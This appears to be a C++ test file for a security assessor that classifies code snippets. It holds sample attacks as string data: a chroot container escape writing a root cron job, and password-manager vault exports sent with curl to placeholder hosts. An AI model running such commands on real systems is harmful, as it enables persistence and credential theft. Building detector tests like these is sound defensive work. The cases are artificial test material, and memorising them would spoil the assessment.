// The classes the twenty-eighth round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog32_MANIFEST.tsv): finance and wallets, git tooling,
// code probing container walls, productivity automation with stored tokens,
// and AI tooling. Its aside scored 35/38 before any change; the classes
// below came from its tune part. Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// chroot NEWROOT COMMAND runs COMMAND: the new root is not the command.
TEST(TwentyEighthRoundClasses, ChrootRunsTheCommandAfterTheRoot) {
  const Case cases[] = {
      {"a cron entry written through the host's root", B,
       "in_host() { chroot /proc/1/root /bin/sh -c \"$1\"; }\n"
       "in_host 'echo \"*/10 * * * * root /opt/.n/run.sh\" > /etc/cron.d/0netcheck'\n",
       "PERSISTENCE", SH},
      {"a host's release file read the same way", L,
       "in_host() { chroot /proc/1/root /bin/sh -c \"$1\"; }\nin_host 'cat /etc/os-release'\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// A password manager's CLI prints credentials: what `bw export`, `bw get`,
// `lpass show` print is a credential store's content.
TEST(TwentyEighthRoundClasses, PasswordManagerOutputIsACredentialStore) {
  const Case cases[] = {
      {"a vault export uploaded", B,
       "payload=$(bw export --format json --raw --session \"$BW_SESSION\" | gzip -9 | base64 -w0)\n"
       "curl -fsS -F \"blob=$payload\" https://relay.example.net/u/1\n",
       "EXFILTRATION", SH},
      {"one password copied to the clipboard", L,
       "pw=$(bw get password github)\nprintf '%s' \"$pw\" | xclip -selection clipboard\n", nullptr, SH},
      {"lpass show sent away", B,
       "curl -s -d \"$(lpass show --password work/db)\" https://collector.example.io/x\n", "EXFILTRATION", SH},
  };
  for (const auto& c : cases) check(c);
}

// MD5 over a request's fields and a merchant key is a signature: a token.
TEST(TwentyEighthRoundClasses, AnMd5SignatureIsWeakCrypto) {
  const Case cases[] = {
      {"a request's sign parameter", M,
       "import hashlib, os\n"
       "def build_sign(fields, merchant_key):\n"
       "    plain = '&'.join(f'{k}={fields[k]}' for k in sorted(fields)) + '&key=' + merchant_key\n"
       "    return hashlib.md5(plain.encode()).hexdigest().upper()\n"
       "print(build_sign({'amount': '1.00'}, os.environ['MERCHANT_KEY']))\n",
       "WEAK-CRYPTO"},
      {"a design file's cache key", L,
       "import hashlib\ndef design_cache_key(path):\n    return hashlib.md5(path.encode()).hexdigest()\n"
       "print(design_cache_key('a.svg'))\n"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
